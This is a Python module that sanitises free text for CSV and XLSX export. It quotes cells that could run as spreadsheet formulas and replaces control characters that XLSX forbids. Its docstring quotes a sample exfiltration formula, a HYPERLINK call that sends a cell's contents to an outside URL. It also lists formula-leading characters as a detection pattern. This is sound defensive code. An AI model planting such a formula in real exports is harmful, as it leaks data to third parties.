"""Text for spreadsheets: shown, never run, and never a character a spreadsheet refuses.

Free text typed by people (a field note, a team's or a code's name, an observer's code) goes out in
CSV and XLSX files that are opened in Excel, LibreOffice or Google Sheets. Two things can go wrong:

- **Formulas.** A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be
  run as a formula (OWASP, "CSV Injection"): ``=HYPERLINK("http://…?"&A2, "Click")`` sends the sheet
  away when clicked. CSV has no cell types, so such text gets a leading ``'`` (``spreadsheet_safe``),
  as OWASP advises: a spreadsheet takes the cell as text, and a reader sees that a quote was added.
  XLSX has cell types: the text keeps its exact value there and is written as a text cell (see
  ``observation.export``), which no spreadsheet runs.
- **Control characters.** Those other than tab, newline and carriage return (a vertical tab or a
  form feed, common in text pasted from Word) cannot be written in XLSX at all (XML 1.0 forbids
  them) and are invisible in CSV. In both they become U+FFFD, the replacement character "�"
  (``replace_controls``), counted so that the export can say how many.

Only text is touched: a number stays a number (a count of -1 is a number, never text). Parquet,
data for R and the full export's way back in, keeps the exact text.

CSV is written with CRLF line ends (RFC 4180, ``to_csv``): then a text holding a carriage return is
quoted like one holding a newline. With "\n" alone, Python's writer leaves a lone "\r" bare, and
every reader (Excel, R, pandas) splits the row there.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may take as the start of a formula (OWASP, "CSV Injection")."""
QUOTE = "'"
REPLACEMENT = "\ufffd"
"""What a control character becomes: U+FFFD REPLACEMENT CHARACTER, "�"."""
CONTROL_PATTERN = "[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]"
"""Characters no XLSX cell may hold (XML 1.0): every C0 control but tab, newline and carriage
return, and the two non-characters U+FFFE and U+FFFF."""
CONTROL = re.compile(CONTROL_PATTERN)
ERROR_VALUES = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")
"""Texts a spreadsheet reads as an error value, not as text, unless the cell is a text cell."""


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet might run ``text`` as a formula."""
    return text.startswith(FORMULA_LEADS)


def spreadsheet_safe(text: str) -> str:
    """``text`` for a CSV cell: with a leading ``'`` when a spreadsheet might run it."""
    return QUOTE + text if runs_as_formula(text) else text


def replace_controls(text: str) -> tuple[str, int]:
    """``text`` with each control character a spreadsheet cannot hold replaced by U+FFFD, and how many."""
    return CONTROL.subn(REPLACEMENT, text)


@dataclass(frozen=True)
class Cleaned:
    """A table made ready for a spreadsheet: ``controls`` control characters replaced, ``formulas``
    text cells that begin like a formula, and ``where`` (row, column) each text cell that a
    spreadsheet would not keep as text unless told (those, and the texts of ERROR_VALUES)."""

    frame: pd.DataFrame
    controls: int
    formulas: int
    where: tuple[tuple[int, int], ...]


def for_spreadsheet(frame: pd.DataFrame, *, quote: bool) -> Cleaned:
    """``frame`` with control characters replaced in every text cell and, with ``quote`` (CSV),
    a ``'`` before each text that begins like a formula. Other cells are left as they are."""
    out = frame.copy()
    controls = formulas = 0
    where: list[tuple[int, int]] = []
    for j, column in enumerate(out.columns):
        values = out[column]
        if values.dtype == object:  # mixed: text among numbers ("[c]" among counts), lists, or nothing
            cells = [replace_controls(v) if isinstance(v, str) else (v, 0) for v in values]
            values = pd.Series([v for v, _ in cells], index=values.index, dtype=object)
            controls += sum(n for _, n in cells)
            text = [isinstance(v, str) for v, _ in cells]
            leads = np.array([t and runs_as_formula(v) for t, (v, _) in zip(text, cells, strict=True)], dtype=bool)
            errors = np.array([t and v in ERROR_VALUES for t, (v, _) in zip(text, cells, strict=True)], dtype=bool)
        elif pd.api.types.is_string_dtype(values.dtype):
            controls += int(values.str.count(CONTROL_PATTERN).sum())
            values = values.str.replace(CONTROL_PATTERN, REPLACEMENT, regex=True)
            leads = values.str.startswith(FORMULA_LEADS, na=False).to_numpy(dtype=bool)
            errors = values.isin(ERROR_VALUES).to_numpy(dtype=bool)
        else:
            continue  # numbers, dates, booleans: never text
        if quote and leads.any():
            values = values.mask(leads, QUOTE + values.where(leads, ""))
        out[column] = values
        formulas += int(leads.sum())
        where.extend((int(i), j) for i in (leads | errors).nonzero()[0])
    return Cleaned(out, controls, formulas, tuple(where))


def to_csv(frame: pd.DataFrame, target: Path | io.StringIO) -> None:
    """Write ``frame`` (made ready by ``for_spreadsheet``) as CSV: CRLF line ends, so that every
    text holding a line break of either kind is quoted."""
    frame.to_csv(target, index=False, lineterminator="\r\n")
